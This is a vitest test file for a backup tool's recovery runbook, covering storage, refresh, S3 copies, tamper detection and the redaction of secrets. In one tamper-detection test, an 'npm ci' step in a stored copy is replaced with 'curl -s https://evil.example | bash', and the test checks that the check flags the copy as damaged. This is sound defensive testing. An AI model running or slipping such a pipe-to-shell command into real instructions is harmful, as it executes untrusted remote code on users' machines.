import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { readSettings } from '@/lib/backup/config';
import { unwrap } from '@/lib/backup/kernel/result';
import { objectKeys } from '@/lib/backup/storage/object-keys';
import { checkCatalogs } from '@/lib/backup/use-cases/check-catalog';
import { exportRunbook, getRunbook, getRunbookPage } from '@/lib/backup/use-cases/get-runbook';
import { startBackup } from '@/lib/backup/use-cases/start-backup';
import { keepRunbookCurrent, storeRunbook } from '@/lib/backup/use-cases/store-runbook';
import { SITE_ENVIRONMENT } from '@/lib/site-environment';
import { keysIn } from '@/tests/contract/store-under-test';
import { OWNER } from '../../support/age-keys';
import { byTest, ended, openModule, type TestModule } from '../../support/backup-module';
import { siteDatabase, type TestDatabase } from '../../support/postgres';
import { missingS3Programs } from '../../support/s3-server';
import { newS3Bucket } from '../../support/shared-s3';

let database: TestDatabase;
let root: string;
let module: TestModule;

beforeAll(async () => {
  database = await siteDatabase();
});
afterAll(() => database?.drop());
beforeEach(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'backup-runbook-'));
});
afterEach(async () => {
  await module?.close();
  await rm(root, { recursive: true, force: true });
});

const open = async (environment: Record<string, string> = {}, url = database.url) => {
  const host = { environment: () => SITE_ENVIRONMENT };
  const settings = { BACKUP_ENGINE: 'wasm', BACKUP_COPIES: `off-site=${path.join(root, 'off-site')}`, ...environment };
  module = await openModule(url, { directory: root, environment: settings, host });
  return module.context;
};
const back = () => ended(startBackup(module.context, { format: 'sql' }, byTest));
const keys = () => objectKeys(module.context.site.slug);
const isRunbook = (key: string) => key.includes('/runbook/');

test('stands beside every good backup, in every place and language, and is known as ours', async () => {
  const context = await open();
  const made = await back();
  const wanted = ['ar', 'en', 'fr'].map((locale) => keys().runbookKey(locale));
  for (const store of [context.store, ...context.copies.map((copy) => copy.store)])
    expect((await keysIn(store)).filter(isRunbook).sort()).toEqual(wanted);
  const stored = await readFile(path.join(root, 'off-site', keys().runbookKey('en')), 'utf8');
  expect(stored).toContain(`BACKUP=${made.id}`);
  expect(unwrap(await checkCatalogs(context)).sound).toBe(true);
  const { stored: copies } = unwrap(await getRunbookPage(context));
  expect(copies.map(({ place, state }) => [place, state])).toEqual([
    ['primary', 'current'],
    ['off-site', 'current'],
  ]);
});

test('is written anew when what it says has changed, and left alone when not', async () => {
  const context = await open();
  const file = path.join(root, 'store', keys().runbookKey('en'));
  await storeRunbook(context);
  const first = await readFile(file, 'utf8');
  await storeRunbook(context);
  expect(await readFile(file, 'utf8')).toBe(first);
  const made = await back();
  expect(await readFile(file, 'utf8')).toContain(made.id);
});

test('the schedule looks after it once an hour: what was removed stands there again', async () => {
  let now = new Date();
  const context = { ...(await open()), clock: { now: () => now } };
  const file = path.join(root, 'off-site', keys().runbookKey('en'));
  const isThere = () =>
    readFile(file).then(
      () => true,
      () => false,
    );
  await keepRunbookCurrent(context);
  expect(await isThere()).toBe(true);
  await rm(file);
  await keepRunbookCurrent(context);
  expect(await isThere()).toBe(false);
  now = new Date(now.getTime() + 3_600_001);
  await keepRunbookCurrent(context);
  expect(await isThere()).toBe(true);
});

test('reads from a copy that outlives the server, by the names of the main store', async ({ skip }) => {
  const missing = missingS3Programs();
  skip(missing !== null, missing ?? '');
  const { bucket, endpoint, credentials } = await newS3Bucket();
  const context = await open({
    BACKUP_COPIES: `near=${path.join(root, 'off-site')} far=s3://${bucket}/copies?endpoint=${endpoint}`,
    BACKUP_S3_ACCESS_KEY_ID_FAR: credentials?.accessKeyId ?? '',
    BACKUP_S3_SECRET_ACCESS_KEY_FAR: credentials?.secretAccessKey ?? '',
  });
  await back();
  const { steps, warnings } = unwrap(await getRunbook(context, { setup: 'server' }));
  const typed = steps[0]?.commands.join('\n') ?? '';
  expect(typed).toContain(`export BACKUP_STORAGE='s3://`);
  expect(typed).toContain(`export BACKUP_COPIES=near=`);
  expect(typed).toMatch(
    /for name in DATABASE_URL BACKUP_SIGNING_KEY BACKUP_S3_ACCESS_KEY_ID BACKUP_S3_SECRET_ACCESS_KEY; do/,
  );
  expect(steps[0]?.notes.join()).toContain('“far”');
  expect(warnings.join()).not.toContain('If the server is lost');
  const { stored } = unwrap(await getRunbookPage(context));
  expect(stored.map(({ place, state }) => `${place} ${state}`)).toEqual([
    'primary current',
    'near current',
    'far current',
  ]);
});

test('an altered copy is named by the check and on the page, and the next backup mends it', async () => {
  const context = await open();
  await back();
  const file = path.join(root, 'off-site', keys().runbookKey('en'));
  const text = await readFile(file, 'utf8');
  await writeFile(file, text.replace('npm ci', 'curl -s https://evil.example | bash'));
  const { places, sound } = unwrap(await checkCatalogs(context));
  expect(sound).toBe(false);
  expect(places.flatMap(({ findings }) => findings)).toMatchObject([
    { kind: 'damaged', key: keys().runbookKey('en'), reason: expect.stringContaining('do not follow it') },
  ]);
  const { stored } = unwrap(await getRunbookPage(context));
  expect(stored.find(({ place }) => place === 'off-site')?.state).toBe('changed');
  await back();
  expect(unwrap(await checkCatalogs(context)).sound).toBe(true);
});

test('a place that cannot be written is a warning, never a failed backup', async () => {
  await writeFile(path.join(root, 'off-site'), 'in the way');
  const context = await open();
  const made = await back();
  expect(made.proof).toBe('read-back');
  expect(module.logged.join('\n')).toContain('The runbook could not be stored beside the backups.');
  const { stored } = unwrap(await getRunbookPage(context));
  expect(stored.map(({ place, state }) => `${place} ${state}`)).toEqual(['primary current', 'off-site missing']);
});

test('without a storage, a database and a git repository it is still a runbook, and says so', async () => {
  await writeFile(path.join(root, 'blocked'), 'in the way');
  const context = await open(
    { BACKUP_STORAGE: path.join(root, 'blocked'), BACKUP_COPIES: '' },
    'postgres://nobody@127.0.0.1:1/site',
  );
  const view = unwrap(await getRunbook(context));
  expect(view.steps).toHaveLength(11);
  expect(view.state).toBe('unknown');
  expect(view.lead).toContain('The storage did not answer');
  expect(view.steps[3]?.commands).toContain('BACKUP=latest');
});

test('whoever is told of failures is called where nobody else is named', async () => {
  const context = await open({ BACKUP_NOTIFY_EMAIL_TO: 'noor@example.com, sam@example.com' });
  const { contacts } = unwrap(await getRunbook(context));
  expect(contacts).toMatchObject({ people: ['noor@example.com', 'sam@example.com'], none: null });
});

test('another set-up than those that are known is refused', async () => {
  const context = await open();
  expect(await getRunbook(context, { setup: 'mainframe' as never })).toMatchObject({ ok: false });
});

/** A secret that has every character which an address, HTML or a shell would write in another way. */
const secret = (name: string) => `${name}-s3cr3t&<'">$/+=${randomBytes(9).toString('base64url')}`;
const encoded = encodeURIComponent;
const formsOf = (value: string) => [
  value,
  encoded(value),
  value.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  JSON.stringify(value).slice(1, -1),
  Buffer.from(value).toString('base64').replace(/=+$/, ''),
  Buffer.from(value).toString('base64url'),
  Buffer.from(value).toString('hex'),
];

test('an address of the site with a password in it is refused: it would stand in the runbook', () => {
  const settings = (address: string) =>
    readSettings({ BACKUP_NOTIFY_SITE_URL: address } as unknown as NodeJS.ProcessEnv);
  expect(settings('https://staging.example.com/en').ok).toBe(true);
  const refused = settings('https://user:s3cr3t@staging.example.com');
  expect(refused.ok).toBe(false);
  expect(JSON.stringify(refused)).not.toContain('s3cr3t');
});

test('holds no secret, whatever it is for', async () => {
  const password = secret('db');
  const values = {
    BACKUP_S3_ACCESS_KEY_ID: secret('id'),
    BACKUP_S3_SECRET_ACCESS_KEY: secret('s3'),
    BACKUP_S3_ACCESS_KEY_ID_OFF_SITE: secret('id2'),
    BACKUP_S3_SECRET_ACCESS_KEY_OFF_SITE: secret('s32'),
    BACKUP_SIGNING_KEY: secret('signing-key-that-is-long-enough'),
    AUTH_SECRET: secret('auth'),
    COOKIE_SECRET: secret('cookie'),
    CRON_SECRET: secret('cron'),
    GH_TOKEN: secret('gh'),
    GITHUB_TOKEN: secret('github'),
    BACKUP_METRICS_TOKEN: secret('metrics'),
    BACKUP_NOTIFY_WEBHOOK_SECRET: secret('hook-secret-that-is-long-enough'),
    SEED_ADMIN_PASSWORD: secret('admin'),
    GOOGLE_CLIENT_SECRET: secret('google'),
    BACKUP_IDENTITY: OWNER.identity,
  };
  const [token, smtp, scratch, hook, slack, heartbeat] = ['git', 'smtp', 'scratch', 'hook', 'slack', 'beat'].map(
    secret,
  );
  const context = await open(
    {
      ...values,
      BACKUP_STORAGE: 's3://bucket/folder?endpoint=http://127.0.0.1:1',
      BACKUP_COPIES: 'off-site=s3://copies/folder?endpoint=http://127.0.0.1:1',
      BACKUP_ENCRYPT_TO: OWNER.recipient,
      DATA_REPOSITORY: `https://user:${encoded(token ?? '')}@git.example.com/content.git`,
      BACKUP_DATABASE_URL: `postgres://admin:${encoded(password)}@127.0.0.1:1/site`,
      BACKUP_SCRATCH_DATABASE_URL: `postgres://admin:${encoded(scratch ?? '')}@127.0.0.1:1/site`,
      BACKUP_NOTIFY_SMTP_URL: `smtp://user:${encoded(smtp ?? '')}@127.0.0.1:1`,
      BACKUP_NOTIFY_WEBHOOK_URL: `https://hooks.example.com/${encoded(hook ?? '')}`,
      BACKUP_NOTIFY_SLACK_URL: `https://slack.example.com/${encoded(slack ?? '')}`,
      BACKUP_NOTIFY_HEARTBEAT_URL: `https://beat.example.com/${encoded(heartbeat ?? '')}`,
      BACKUP_RUNBOOK_CONTACTS: 'Noor Haddad +49 30 1234; Sam, sam@example.com',
    },
    `postgres://admin:${encoded(password)}@127.0.0.1:1/site`,
  );
  const secrets = [...Object.values(values), password, token, smtp, scratch, hook, slack, heartbeat];
  const forms = secrets.flatMap((each) => formsOf(each ?? ''));
  const setups = ['server', 'docker', 'vercel', 'managed'] as const;
  await Promise.all(
    setups.map(async (setup) => {
      const made = unwrap(await exportRunbook(context, { setup }));
      const said = JSON.stringify(made) + made.html + made.text;
      expect(forms.filter((form) => said.includes(form))).toEqual([]);
      expect(made.view.contacts.people).toEqual(['Noor Haddad +49 30 1234', 'Sam, sam@example.com']);
      expect(made.html).toContain('https://git.example.com/content.git');
      // Names must be there, else a page without anything would pass.
      const named = setup === 'vercel' ? ['BACKUP_SIGNING_KEY', 'BACKUP_S3_SECRET_ACCESS_KEY'] : Object.keys(values);
      for (const name of named) expect(made.html).toContain(name);
    }),
  );
});
